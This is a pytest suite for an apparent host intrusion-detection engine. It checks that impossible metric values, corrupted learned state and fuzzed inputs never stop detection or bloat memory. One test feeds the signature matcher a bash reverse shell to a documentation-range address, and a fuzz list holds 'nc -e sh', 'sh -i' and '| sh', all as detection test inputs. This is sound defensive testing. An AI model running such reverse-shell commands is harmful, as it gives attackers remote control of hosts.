"""No snapshot and no stored state stops a host's detection: what can't be used costs one look, never the host."""

import gc
import tracemalloc
from collections.abc import Callable
from math import isfinite
from typing import Any

import msgspec
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.fixtures.quiet_host import HOST, changed, quiet_snapshots, quiet_tables

from vedette.core import Cell, Epoch, Label, Row, Snapshot, table_digest
from vedette.detect import KNOWN_TABLES, Arrival, Bundle, Detector, Scored
from vedette.detect.behaviour.recent import Recent
from vedette.detect.behaviour.shelf import Shelf
from vedette.detect.behaviour.state import BehaviourState, Unlearned
from vedette.detect.hoststate import HostState, decode_state, encode_state
from vedette.detect.inventory.state import InventoryState, Watched
from vedette.detect.place import _hidden, hidden, place
from vedette.detect.short import short
from vedette.detect.signature import deed
from vedette.detect.vitals.gauges import GAUGES
from vedette.detect.vitals.past import Past, VitalsState

GROWN = 40
MEMORY = "system.memory.utilization"
WILD = [1e15, -1e15, 1e39, -1e39, 1e200, 1e308, -1e308, 1.7976931348623157e308]


@pytest.fixture(scope="module")
def detector() -> Detector:
    return Detector(Bundle.shipped())


def play(
    detector: Detector, snapshots: list[Snapshot], state: bytes | None = None
) -> tuple[list[Scored], bytes | None]:
    """One by one, the state going through its bytes; every state is kept."""
    answers = []
    for snapshot in snapshots:
        arrival = Arrival(epoch=Epoch("e1"), snapshot=snapshot)
        answers.append(detector.step([arrival], {HOST: state})[0])
        state = answers[-1].state or state
    return answers, state


@pytest.fixture(scope="module")
def grown(detector: Detector) -> bytes:
    state = play(detector, list(quiet_snapshots(GROWN)))[1]
    assert state is not None
    return state


def later(count: int, seed: int = 5) -> list[Snapshot]:
    return list(quiet_snapshots(count, seed=seed, first=GROWN + 1))


def subjects(scored: Scored) -> set[str]:
    return {reason.subject for reason in scored.reasons}


@pytest.mark.parametrize("value", WILD)
@pytest.mark.parametrize("name", ["x.y", MEMORY, "system.processes.count"])
def test_a_value_that_cannot_be_is_never_normal_and_leaves_no_trace(
    detector: Detector, grown: bytes, name: str, value: float
) -> None:
    snapshots = later(20)
    wild = [changed(snapshots[0], metrics={name: value}), *snapshots[1:]]
    answers, _ = play(detector, wild, grown)
    assert answers[0].label is not Label.NORMAL
    reason = next(r for r in answers[0].reasons if r.expert == "judge")
    assert reason.subject == f"metric:{name}"
    assert reason.text.startswith(f"Impossible value: {name} is ")
    assert {answer.label for answer in answers[1:]} == {Label.NORMAL}


@pytest.mark.parametrize("value", WILD)
def test_a_host_that_begins_with_such_values_still_grows_up(
    detector: Detector, value: float
) -> None:
    snapshots = list(quiet_snapshots(GROWN))
    for at in range(10):
        wild = {"x.y": value, MEMORY: value, "system.cpu.utilization": -value}
        snapshots[at] = changed(snapshots[at], metrics=wild)
    answers, _ = play(detector, snapshots)
    assert not any(answer.label is Label.NORMAL for answer in answers[:10])
    assert answers[-1].label is Label.NORMAL


def test_a_gauge_that_stays_out_of_bounds_is_abnormal_and_never_usual(
    detector: Detector, grown: bytes
) -> None:
    snapshots = [changed(s, metrics={MEMORY: 1e39}) for s in later(60)]
    answers, _ = play(detector, snapshots, grown)
    assert all(answer.label is not Label.NORMAL for answer in answers)
    assert answers[-1].label is Label.ABNORMAL


def test_many_values_that_cannot_be_are_told_in_few_words(detector: Detector, grown: bytes) -> None:
    wild = {f"{'m' * 10_000}{n}": 1e40 for n in range(50)}
    answer = play(detector, [changed(later(1)[0], metrics=wild)], grown)[0][0]
    assert answer.label is Label.UNKNOWN
    assert "50 metrics have impossible values" in {r.text for r in answer.reasons}
    assert all(len(r.subject) <= 400 and len(r.text) <= 1_000 for r in answer.reasons)


def spoiled(detector: Detector, state: bytes, spoil: Callable[[HostState], object]) -> bytes:
    """The state with something in it that no learning leaves."""
    host = decode_state(state, detector.experts)
    spoil(host)
    host.kept = {name: e.dump(host.experts[name]) for name, e in detector.experts.items()}
    return encode_state(host)


def vitals(host: HostState) -> VitalsState:
    found = host.experts["vitals"]
    assert isinstance(found, VitalsState)
    return found


def written(host: HostState) -> Past:
    """What vitals knows of the host, as arrays that may be written."""
    state = vitals(host)
    state.record = np.frombuffer(state.record, np.uint8).copy()
    return state.past()


def _bank(field: str, value: float) -> Callable[[HostState], object]:
    def spoil(host: HostState) -> None:
        banks = written(host).banks
        seat = banks.layout.seat[MEMORY]
        getattr(banks, field)[..., banks.layout.first == seat if field == "spread" else seat] = (
            value
        )

    return spoil


def _sample(value: float) -> Callable[[HostState], object]:
    def spoil(host: HostState) -> None:
        watches, gauge = written(host).watches, [g.metric for g in GAUGES].index(MEMORY)
        watches.sample[0, gauge, 0] = value
        watches.high[0, gauge] = value

    return spoil


@pytest.mark.parametrize(
    "spoil",
    [
        *(_bank(field, np.inf) for field in ("filters", "mean", "low", "spread")),
        *(_bank(field, np.nan) for field in ("filters", "mean", "high", "spread", "age")),
        _bank("filters", 1e200),
        _sample(np.inf),
        _sample(np.nan),
    ],
)
def test_a_past_with_a_number_that_is_none_starts_anew_and_blinds_once(
    detector: Detector, grown: bytes, spoil: Callable[[HostState], object]
) -> None:
    answers, state = play(detector, later(30), spoiled(detector, grown, spoil))
    assert answers[0].label is Label.UNKNOWN
    assert subjects(answers[0]) == {"state:vitals"}
    assert MEMORY in answers[0].reasons[0].text
    assert {answer.label for answer in answers[1:]} == {Label.NORMAL}
    past = vitals(decode_state(state, detector.experts)).past()
    assert MEMORY in past.layout.names
    threads = [gauge.metric for gauge in GAUGES].index("system.threads.count")
    assert past.watches.seen[0, threads] == GROWN + 30


def _weighs_unknown_evidence(host: HostState) -> None:
    state = host.experts["inventory"]
    assert isinstance(state, InventoryState)
    state.idle.clear()
    state.watched["user"][7] = Watched("user:x", "x", "no-such-evidence", 0.0, 500, 5, 1.0)


def _weighs_without_end(host: HostState) -> None:
    state = host.experts["behaviour"]
    assert isinstance(state, BehaviourState)
    shape = next(iter(state.shapes))
    state.unlearned = {one: Unlearned(0.0, 1, float("inf")) for one in state.shapes}
    state.shapes, state.recent = Shelf({shape + 1: 1}), Recent()


def _cannot_learn(host: HostState) -> None:
    written(host).banks.scale[:] = 0.0


@pytest.mark.parametrize(
    ("expert", "spoil"),
    [
        ("inventory", _weighs_unknown_evidence),
        ("behaviour", _weighs_without_end),
        ("vitals", _cannot_learn),
    ],
)
def test_an_expert_whose_state_is_unusable_starts_anew_and_blinds_once(
    detector: Detector, grown: bytes, expert: str, spoil: Callable[[HostState], object]
) -> None:
    answers, _ = play(detector, later(5), spoiled(detector, grown, spoil))
    assert answers[0].label is Label.UNKNOWN
    assert subjects(answers[0]) == {f"state:{expert}"}
    assert "could not be used and starts anew" in answers[0].reasons[0].text
    assert {answer.label for answer in answers[1:]} == {Label.NORMAL}


@pytest.mark.parametrize("spoil", [_weighs_unknown_evidence, _cannot_learn])
def test_an_expert_that_starts_anew_needs_the_tables_that_came_by_digest(
    detector: Detector, grown: bytes, spoil: Callable[[HostState], object]
) -> None:
    by_digest = [
        changed(
            one,
            without=("users", "hash"),
            same={n: table_digest(one.tables[n]) for n in ("users", "hash")},
        )
        for one in later(2)
    ]
    whole = later(5)[2:]
    answers, _ = play(detector, [*by_digest, *whole], spoiled(detector, grown, spoil))
    assert [answer.needed for answer in answers] == [("hash", "users")] * 2 + [()] * 3
    labels = [answer.label for answer in answers]
    assert labels == [Label.UNKNOWN] * 2 + [Label.NORMAL] * 3


def test_a_late_snapshot_says_so_too_but_mends_nothing(detector: Detector, grown: bytes) -> None:
    state = spoiled(detector, grown, _weighs_unknown_evidence)
    late = next(quiet_snapshots(1, first=GROWN))
    answers, after = play(detector, [late, *later(1)], state)
    assert answers[0].late
    assert answers[0].state is None
    assert "state:inventory" in subjects(answers[0])
    assert "state:inventory" in subjects(answers[1])
    assert after == answers[1].state


def test_thousands_of_metrics_make_no_large_state(detector: Detector) -> None:
    wide = {f"app.{n:04d}.{'x' * 200}": float(n) for n in range(2_000)}
    churn = [
        changed(s, metrics={f"pod.{s.seq}.{n}": 1.0 for n in range(300)})
        for s in quiet_snapshots(20, first=21)
    ]
    snapshots = [*(changed(s, metrics=wide) for s in quiet_snapshots(20)), *churn]
    state = play(detector, snapshots)[1]
    assert state is not None
    assert len(state) < 96_000
    names = vitals(decode_state(state, detector.experts)).layout.names
    assert len(names) == 64
    assert {gauge.metric for gauge in GAUGES} & set(snapshots[0].metrics) <= set(names)


def test_a_metric_with_a_boundless_name_gets_no_seat(detector: Detector, grown: bytes) -> None:
    long = {f"{'n' * 10_000}{n}": 1.0 for n in range(40)}
    answers, state = play(detector, [changed(s, metrics=long) for s in later(3)], grown)
    assert answers[-1].label is Label.NORMAL
    assert len(state or b"") < 60_000


def test_a_deed_is_found_after_many_tools_and_long_commands_are_read_in_part() -> None:
    honest = "cat /etc/motd; " * 30
    assert deed(honest + "bash -i >& /dev/tcp/203.0.113.7/443") == "reverse"
    assert deed("nc " * 5_000) == "netcat"
    assert deed("x" * 1_000 + " /dev/tcp/203.0.113.7/443") == ""


def test_a_short_text_tells_long_ones_apart() -> None:
    one, other = (short("x" * 5_000 + end, 300) for end in "ab")
    assert len(one) == len(other) == 300
    assert one != other
    assert short("x" * 300, 300) == "x" * 300


COLUMNS = (
    *sorted({column for rows in quiet_tables().values() for row in rows for column in row}),
    *("user", "host", "type", "source", "header", "rule_details", "command", "minute", "event"),
    *("key", "key_file", "id", "fragment_path", "unit_file_state", "device"),
    *("local_port", "remote_port", "remote_address"),
)
TEXTS = st.sampled_from(
    [
        "",
        " ",
        "/",
        "//",
        "²",
        "9" * 5_000,
        "-1",
        "1e999",
        "nan",
        "\0",
        "172.²²²",
        "172.",
        "root",
        "nginx",
        "nologin",
        "/tmp/.x/y",
        "sh -i",
        "nc -e sh",
        "x" * 10_000,
        "/" * 10_000,
        "| sh " * 2_000,
        "auditd.service",
        "nmap",
        "203.0.113.7",
        "ESTABLISHED",
    ]
)
CELLS: st.SearchStrategy[Cell] = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(-5, 5),
    st.sampled_from([2**31, 2**53, 2**63 - 1, 2**63, 2**64, 10**30, -(2**63), -(10**30)]),
    st.floats(),
    TEXTS,
    st.text(max_size=5),
)
ROWS: st.SearchStrategy[Row] = st.dictionaries(st.sampled_from(COLUMNS), CELLS, max_size=14)
VALUES = st.one_of(
    st.floats(allow_nan=False, allow_infinity=False), st.floats(-1e3, 1e3), st.sampled_from(WILD)
)
NAMES = st.sampled_from(
    [*(g.metric for g in GAUGES), "x.y", "", "n" * 10_000, "system.uptime", "system.memory.usage"]
)
LOOKS = st.fixed_dictionaries(
    {
        "metrics": st.dictionaries(NAMES, VALUES, max_size=8),
        "tables": st.dictionaries(
            st.sampled_from(sorted(KNOWN_TABLES)), st.lists(ROWS, max_size=4), max_size=6
        ),
        "without": st.lists(st.sampled_from(sorted(quiet_tables())), max_size=2).map(tuple),
        "kept": st.booleans(),
    }
)


def _seen(snapshot: Snapshot, look: dict[str, Any]) -> Snapshot:
    """The snapshot with odd things beside its own rows, or in their place."""
    tables = look["tables"]
    if look["kept"]:
        tables = {n: [*snapshot.tables.get(n, []), *rows] for n, rows in tables.items()}
    return changed(snapshot, metrics=look["metrics"], tables=tables, without=look["without"])


@pytest.mark.parametrize("port", [True, False, 10**30, -1, 2.0, "22"])
def test_a_port_that_is_no_whole_number_costs_no_state(
    detector: Detector, grown: bytes, port: Cell
) -> None:
    ports: list[Row] = [{"pid": 1, "port": port, "address": None}]
    odd, *plain = later(3)
    snapshots = [changed(odd, tables={"listening_ports": ports}), *plain]
    answers, _ = play(detector, snapshots, grown)
    assert not any("state" in subjects(answer) for answer in answers)


@pytest.mark.parametrize("column", ["resident_size", "threads"])
def test_a_process_beyond_all_measure_costs_no_state(
    detector: Detector, grown: bytes, column: str
) -> None:
    snapshots = [
        changed(
            one, tables={"processes": [row | {column: 10**400} for row in one.tables["processes"]]}
        )
        for one in later(3)
    ]
    answers, _ = play(detector, snapshots, grown)
    assert not any(name.startswith("state") for answer in answers for name in subjects(answer))


@settings(max_examples=120, deadline=None)
@given(looks=st.lists(LOOKS, min_size=1, max_size=6), young=st.booleans())
def test_nothing_that_a_host_can_send_stops_it(
    detector: Detector, grown: bytes, looks: list[dict[str, Any]], *, young: bool
) -> None:
    plain = list(quiet_snapshots(len(looks))) if young else later(len(looks))
    snapshots = [_seen(snapshot, look) for snapshot, look in zip(plain, looks, strict=True)]
    answers, state = play(detector, snapshots, None if young else grown)
    for snapshot, answer in zip(snapshots, answers, strict=True):
        assert isfinite(answer.score)
        assert 0.0 <= answer.score <= 1.0
        assert all(map(isfinite, answer.experts.values()))
        assert not any(reason.subject.startswith("state") for reason in answer.reasons)
        assert len(msgspec.json.encode(answer.reasons)) < 40_000
        if any(abs(value) >= 1e15 for value in snapshot.metrics.values()):
            assert answer.label is not Label.NORMAL
    assert len(state or b"") < 100_000


@settings(max_examples=40, deadline=None)
@given(
    st.lists(
        st.dictionaries(st.sampled_from("abcdef"), st.floats(-1e15, 1e15), max_size=6),
        min_size=1,
        max_size=60,
    )
)
def test_no_values_within_bounds_make_the_learned_state_unusable(
    detector: Detector, rows: list[dict[str, float]]
) -> None:
    snapshots = [
        changed(s, metrics=row) for s, row in zip(quiet_snapshots(len(rows)), rows, strict=True)
    ]
    answers, state = play(detector, snapshots)
    assert not any("state:vitals" in subjects(answer) for answer in answers)
    assert not vitals(decode_state(state, detector.experts)).lost


def _long_winded(snapshot: Snapshot, letters: int) -> Snapshot:
    """Every text of every row made longer by so many letters, and unlike all before it."""
    tables = {
        name: [
            {
                column: f"/{snapshot.seq}{cell}{'x' * letters}" if isinstance(cell, str) else cell
                for column, cell in row.items()
            }
            for row in rows
        ]
        for name, rows in snapshot.tables.items()
    }
    crontab: list[Row] = [{"minute": "*", "command": f"/{snapshot.seq} {'y' * letters}"}]
    return changed(snapshot, tables=tables | {"crontab": crontab})


def test_what_a_host_sends_is_not_hoarded_in_memory(detector: Detector) -> None:
    snapshots = [_long_winded(one, 60_000) for one in quiet_snapshots(25)]
    _, state = play(detector, snapshots[:5])
    tracemalloc.start()
    play(detector, snapshots[5:], state)
    gc.collect()
    kept = tracemalloc.get_traced_memory()[0]
    tracemalloc.stop()
    assert kept < 2_000_000


def test_of_a_long_path_nothing_is_remembered_and_its_class_is_told_all_the_same() -> None:
    before = _hidden.cache_info().currsize
    long = "/tmp/" + "x/" * 400 + ".y/z"
    assert (place(long), hidden(long)) == ("temp", True)
    assert not hidden("/usr/bin/" + "x" * 10_000)
    assert _hidden.cache_info().currsize == before
    assert place("/var/lib/containerd/" + "x" * 10_000) == "layer"
